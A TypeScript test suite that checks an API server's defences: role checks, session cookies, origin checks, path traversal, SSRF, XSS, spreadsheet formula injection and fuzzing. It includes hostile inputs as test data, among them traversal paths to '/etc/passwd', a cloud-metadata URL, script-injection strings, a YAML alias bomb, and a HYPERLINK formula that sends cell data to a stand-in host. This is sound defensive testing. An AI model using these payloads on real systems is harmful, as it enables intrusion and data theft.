/** The API against people who mean harm, and against nonsense: roles, sites, sizes, paths, names, ten hundred malformed requests. */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAPI, documentOf } from "../../apps/server/app.ts";
import { cell } from "../../src/report/csv.ts";
import { createToken, createWorkspace } from "../../apps/server/store/tokens.ts";
import type { Role } from "../../apps/server/store/tables.ts";
import { fuzzRequests } from "./fuzz-requests.ts";
import { SMALL_CAMPUS } from "../../scripts/small-campus.ts";
import { ROOT, startTestServer, until } from "./harness.ts";
import type { TestServer } from "./harness.ts";

let server: TestServer;
const tokens = new Map<Role, string>();
beforeAll(async () => {
  server = await startTestServer();
  await createWorkspace(server.service.store.db, "team", "Team");
  for (const role of ["viewer", "planner", "admin"] as const)
    tokens.set(
      role,
      (await createToken(server.service.store.db, { name: role, role, workspace: "team" })).secret,
    );
});
afterAll(() => server.close());

interface Operation {
  readonly path: string;
  readonly method: string;
  readonly role: unknown;
}

function operations(): Operation[] {
  const document = documentOf(createAPI(server.service), "test");
  return Object.entries(document.paths ?? {}).flatMap(([path, item]) =>
    Object.entries(item as Record<string, Record<string, unknown>>).map(([method, operation]) => ({
      path: `/api/v1${path.replaceAll(/\{\w+\}/g, "00000000-0000-4000-8000-000000000000")}`,
      method: method.toUpperCase(),
      role: operation["x-role"],
    })),
  );
}

const bearer = (role: Role) => ({ authorization: `Bearer ${tokens.get(role)}` });
const RANK: Readonly<Record<string, number>> = { viewer: 0, planner: 1, admin: 2 };

describe("roles", () => {
  it("every route states its role, refuses who has none, and who has less", async () => {
    const all = operations();
    expect(all.length).toBeGreaterThan(30);
    const publicPaths: string[] = [];
    for (const { path, method, role } of all) {
      expect(["public", "viewer", "planner", "admin"], path).toContain(role);
      const body = method === "GET" || method === "DELETE" ? {} : { body: "{}" };
      const bare = await server.ask(path, { method, ...body, app: server.closed });
      if (role === "public") publicPaths.push(path);
      else expect(bare.status, `${method} ${path} without a token`).toBe(401);
      for (const mine of ["viewer", "planner"] as const) {
        const answer = await server.ask(path, {
          method,
          ...body,
          app: server.closed,
          headers: bearer(mine),
        });
        const allowed = role === "public" || RANK[mine]! >= RANK[String(role)]!;
        expect(answer.status === 403, `${method} ${path} as ${mine}`).toBe(!allowed);
        await answer.body?.cancel();
      }
    }
    expect(publicPaths).toEqual(["/api/v1/health"]);
  });

  it("refuses wrong and revoked tokens, and never takes one from an address", async () => {
    const { closed } = server;
    const made = await createToken(server.service.store.db, {
      name: "gone",
      role: "admin",
      workspace: "team",
    });
    const ask = (headers: Record<string, string>, query = "") =>
      server.ask(`/api/v1/me${query}`, { app: closed, headers });
    expect((await ask({ authorization: "Bearer fw_wrongwrongwrongwrongwrong" })).status).toBe(401);
    expect((await ask({}, `?token=${tokens.get("admin")}`)).status).toBe(401);
    const revoke = await server.ask(`/api/v1/tokens/${made.id}`, {
      method: "DELETE",
      app: closed,
      headers: bearer("admin"),
    });
    expect(revoke.status).toBe(200);
    expect((await ask({ authorization: `Bearer ${made.secret}` })).status).toBe(401);
    const stored = JSON.stringify(
      await server.service.store.db.selectFrom("tokens").selectAll().execute(),
    );
    expect(stored).not.toContain(tokens.get("admin"));
  });

  it("signs a browser in by a cookie that no script reads, for its own page alone, until it signs out or the token is revoked", async () => {
    const { store } = server.service;
    const made = await createToken(store.db, { name: "ann", role: "planner", workspace: "team" });
    const ask = (path: string, method: string, headers: Record<string, string>, body?: unknown) =>
      server.ask(path, { method, app: server.closed, headers, ...(body ? { body } : {}) });
    const signIn = (headers: Record<string, string> = {}) =>
      ask("/api/v1/session", "POST", { authorization: `Bearer ${made.secret}`, ...headers });
    const wrong = await ask("/api/v1/session", "POST", {
      authorization: "Bearer fw_wrongwrongwrongwrongwrong",
    });
    expect([wrong.status, wrong.headers.get("set-cookie")]).toEqual([401, null]);
    const answer = await signIn();
    expect(await answer.json()).toEqual({ actor: "ann", role: "planner", workspace: "team" });
    const set = answer.headers.get("set-cookie")!;
    for (const attribute of ["HttpOnly", "SameSite=Strict", "Path=/api", "Max-Age="])
      expect(set).toContain(attribute);
    expect(set).not.toContain(made.secret);
    expect(set).not.toContain("Secure");
    expect((await signIn({ "x-forwarded-proto": "https" })).headers.get("set-cookie")).toContain(
      "; Secure",
    );
    const cookie = set.split(";")[0]!;
    const secret = cookie.split("=")[1]!;
    expect((await ask("/api/v1/me", "GET", { cookie })).status).toBe(200);
    expect((await ask(`/api/v1/me?session=${secret}`, "GET", {})).status).toBe(401);
    const post = (headers: Record<string, string>) =>
      ask("/api/v1/scenarios/validate", "POST", { cookie, ...headers }, { text: SMALL_CAMPUS });
    const site = "sec-fetch-site";
    expect((await post({ [site]: "same-origin" })).status).toBe(200);
    expect((await post({ origin: "http://localhost:4780" })).status).toBe(200);
    expect((await post({})).status).toBe(403);
    expect((await post({ [site]: "cross-site" })).status).toBe(403);
    expect((await post({ origin: "https://evil.example" })).status).toBe(403);
    const stored = await store.db.selectFrom("sessions").selectAll().execute();
    const audit = await store.db.selectFrom("audit").selectAll().execute();
    for (const text of [JSON.stringify(stored), JSON.stringify(audit), server.log.join("\n")])
      for (const kept of [secret, made.secret]) expect(text).not.toContain(kept);
    expect((await ask("/api/v1/session", "DELETE", { cookie, [site]: "same-origin" })).status).toBe(
      200,
    );
    expect((await ask("/api/v1/me", "GET", { cookie })).status).toBe(401);
    const again = (await signIn()).headers.get("set-cookie")!.split(";")[0]!;
    await store.db
      .updateTable("sessions")
      .set({ expires_at: new Date(0) })
      .execute();
    expect((await ask("/api/v1/me", "GET", { cookie: again })).status).toBe(401);
    const last = (await signIn()).headers.get("set-cookie")!.split(";")[0]!;
    await ask(`/api/v1/tokens/${made.id}`, "DELETE", bearer("admin"));
    expect((await ask("/api/v1/me", "GET", { cookie: last })).status).toBe(401);
    expect(
      (await server.ask("/api/v1/session", { method: "POST" })).headers.get("set-cookie"),
    ).toBeNull();
  });

  it("keeps workspaces apart", async () => {
    const mine = await server.ask("/api/v1/scenarios", {
      method: "POST",
      body: { text: SMALL_CAMPUS },
    });
    const { hash } = (await mine.json()) as { hash: string };
    expect((await server.ask(`/api/v1/scenarios/${hash}`)).status).toBe(200);
    const other = await server.ask(`/api/v1/scenarios/${hash}`, {
      app: server.closed,
      headers: bearer("admin"),
    });
    expect(other.status).toBe(404);
    const plan = await server.ask("/api/v1/plans", {
      method: "POST",
      body: { scenario: { hash } },
    });
    const { id } = (await plan.json()) as { id: string };
    for (const path of ["", "/events", "/result", "/files", "/files/report.html"])
      expect(
        (
          await server.ask(`/api/v1/plans/${id}${path}`, {
            app: server.closed,
            headers: bearer("admin"),
          })
        ).status,
      ).toBe(404);
    expect(
      (
        await server.ask(`/api/v1/plans/${id}/cancel`, {
          method: "POST",
          app: server.closed,
          headers: bearer("admin"),
        })
      ).status,
    ).toBe(404);
    await server.ask(`/api/v1/plans/${id}/cancel`, { method: "POST" });
  });
});

describe("where a request comes from", () => {
  it("refuses other sites, foreign host names and forms", async () => {
    const post = (headers: Record<string, string>) =>
      server.ask("/api/v1/scenarios/validate", {
        method: "POST",
        body: { text: SMALL_CAMPUS },
        headers,
      });
    expect((await post({})).status).toBe(200);
    expect(
      (await post({ origin: "http://localhost:4780", "sec-fetch-site": "same-origin" })).status,
    ).toBe(200);
    expect((await post({ origin: "https://evil.example" })).status).toBe(403);
    expect((await post({ origin: "null" })).status).toBe(403);
    expect((await post({ "sec-fetch-site": "cross-site" })).status).toBe(403);
    expect((await post({ "sec-fetch-site": "same-site" })).status).toBe(403);
    expect((await post({ host: "rebound.example" })).status).toBe(421);
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
      expect((await post({ "content-type": type })).status).toBe(415);
    expect(
      (await server.ask("/api/v1/plans", { headers: { "sec-fetch-site": "cross-site" } })).status,
    ).toBe(403);
  });

  it("sends strict headers with answers, refusals and pages", async () => {
    for (const path of ["/", "/api/v1/health", "/api/v1/nothing", "/api/v1/plans/x"]) {
      const { headers } = await server.ask(path);
      expect(headers.get("content-security-policy"), path).toContain("default-src 'none'");
      expect(headers.get("content-security-policy"), path).not.toContain(
        "script-src 'self' 'unsafe",
      );
      expect(headers.get("x-content-type-options"), path).toBe("nosniff");
      expect(headers.get("access-control-allow-origin"), path).toBeNull();
    }
  });

  it("lets no path out of the app's folder, and fetches no address", async () => {
    for (const path of [
      "/../package.json",
      "/..%2fpackage.json",
      "/%2e%2e/%2e%2e/package.json",
      "/assets/..%5c..%5cpackage.json",
      "/%00.html",
      "/%ff.js",
    ]) {
      const answer = await server.ask(path);
      expect(await answer.text(), path).not.toContain('"license"');
    }
    for (const name of ["..%2f..%2fpackage.json", "%2e%2e%2fpassword", "..%5cpassword", "%00"]) {
      const path = `/api/v1/plans/00000000-0000-4000-8000-000000000000/files/${name}`;
      expect((await server.ask(path)).status, path).toBe(404);
    }
    const text = `${SMALL_CAMPUS}    weather: { file: "http://169.254.169.254/latest.csv" }\n`;
    for (const file of ["http://169.254.169.254/latest.csv", "/etc/passwd", "../../etc/passwd"]) {
      const body = { text: text.replace("http://169.254.169.254/latest.csv", file) };
      const answer = await server.ask("/api/v1/scenarios/validate", { method: "POST", body });
      const found = (await answer.json()) as { ok: boolean; issues: { code: string }[] };
      expect(found.ok).toBe(false);
      expect(found.issues[0]!.code).toBe("file");
    }
  });
});

it("has nothing in its program that could fetch an address a person names", () => {
  const found = ["src", "apps/server", "apps/cli"].flatMap((folder) =>
    readdirSync(join(ROOT, folder), { recursive: true, encoding: "utf8" })
      .filter((file) => file.endsWith(".ts") && !file.endsWith(".test.ts"))
      .filter((file) =>
        /(?<!\.)\bfetch\(|globalThis\.fetch|XMLHttpRequest|new WebSocket|node:(https?|http2|tls|dgram)"|\bconnect\(\{?\s*(host|port)/.test(
          readFileSync(join(ROOT, folder, file), "utf8"),
        ),
      )
      .map((file) => `${folder}/${file}`),
  );
  expect(found).toEqual([]);
});

describe("what a request carries", () => {
  it("refuses large, deep and alias-bombed scenarios with a reason", async () => {
    const bomb = `firmwatt: 1\na: &a [x,x,x,x,x,x,x,x,x]\n${"bcdefghi"
      .split("")
      .map((name, i) => `${name}: &${name} [${Array(9).fill(`*${"abcdefgh"[i]}`).join(",")}]`)
      .join("\n")}\n`;
    for (const text of [bomb, `a: ${"[".repeat(5000)}`, "x: 1\n".repeat(150_000)]) {
      const answer = await server.ask("/api/v1/scenarios/validate", {
        method: "POST",
        body: { text },
      });
      expect(answer.status).toBeLessThan(500);
      const found = (await answer.json()) as {
        ok?: boolean;
        issues?: unknown[];
        error?: { message: string };
      };
      expect(found.ok === false || found.error !== undefined).toBe(true);
    }
    const large = await server.ask("/api/v1/scenarios", {
      method: "POST",
      body: { text: "a".repeat(3_000_000) },
    });
    expect(large.status).toBe(413);
    const upload = await server.ask("/api/v1/imports/check", {
      method: "POST",
      body: { name: "a.csv", text: "1,".repeat(13_000_000) },
    });
    expect(upload.status).toBe(413);
  });

  it("never lets a name run: in the report it is text, and the report runs nothing", async () => {
    const name = `<script>alert(1)</script>"><img src=x onerror=alert(1)>`;
    const worker = server.startWorker();
    const asked = await server.ask("/api/v1/plans", {
      method: "POST",
      body: {
        scenario: { text: SMALL_CAMPUS.replace("Small campus", `'${name}'`) },
        label: name,
        confirm: 0,
      },
    });
    const { id } = (await asked.json()) as { id: string };
    const page = await until(async () => {
      const answer = await server.ask(`/api/v1/plans/${id}/files/report.html`);
      return answer.status === 200 ? answer : undefined;
    });
    await worker.close();
    const text = await page.text();
    expect(text).toContain("&lt;script&gt;alert(1)");
    for (const raw of ["<script>alert", "<img src=x"]) expect(text).not.toContain(raw);
    expect(page.headers.get("content-security-policy")).toMatch(/default-src 'none'.*sandbox/);
    const list = await server.ask("/api/v1/plans");
    expect(list.headers.get("content-type")).toContain("application/json");
    expect(list.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("never lets a name become a formula: in the workbook it is text, in CSV it is guarded", async () => {
    for (const begin of ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"])
      expect(cell(`${begin}cmd|'/c calc'!A1`), JSON.stringify(begin)).toMatch(/^"?'/);
    for (const plain of ["-1.5", "+2", "A1=B2"]) expect(cell(plain)).toBe(plain);
    const name = `=HYPERLINK("http://x.example/"&A1)`;
    const worker = server.startWorker();
    const asked = await server.ask("/api/v1/plans", {
      method: "POST",
      body: {
        scenario: { text: SMALL_CAMPUS.replace("Small campus", `'${name}'`) },
        set: ["finance={}"],
        confirm: 0,
      },
    });
    const { id } = (await asked.json()) as { id: string };
    const file = await until(async () => {
      const answer = await server.ask(`/api/v1/plans/${id}/files/workbook.xlsx`);
      return answer.status === 200 ? answer : undefined;
    });
    await worker.close();
    const parts = Object.values(unzipSync(new Uint8Array(await file.arrayBuffer()))).map((part) =>
      strFromU8(part),
    );
    const formulas = parts.flatMap((part) => part.match(/<f>[^<]*<\/f>/g) ?? []);
    expect(formulas.length).toBeGreaterThan(100);
    expect(formulas.filter((formula) => formula.includes("HYPERLINK"))).toEqual([]);
    const texts = parts.flatMap((part) => part.match(/<(t|v)[^>]*>[^<]*HYPERLINK/g) ?? []);
    expect(texts.length).toBeGreaterThan(0);
    for (const text of texts) expect(text).toMatch(/>[^=+@<-][^<]*HYPERLINK/);
  });

  it("answers 500 malformed requests with 4xx and a reason, never 5xx", async () => {
    const document = documentOf(createAPI(server.service), "test");
    let accepted = 0;
    for (const { method, path, headers, body } of fuzzRequests(document, 500, 7)) {
      const answer = await server.ask(path, {
        method,
        headers,
        ...(body === undefined ? {} : { body }),
      });
      const told = `${method} ${path.slice(0, 100)} ${body?.slice(0, 300)}`;
      expect(answer.status, told).toBeLessThan(500);
      if (answer.status < 400) accepted++;
      else {
        const { error } = (await answer.json()) as { error: { code: string; message: string } };
        expect(error.message.length, told).toBeGreaterThan(3);
      }
    }
    // A few turn out to be right, such as validating nonsense, which is what that route is for.
    expect(accepted).toBeLessThan(60);
  });
});
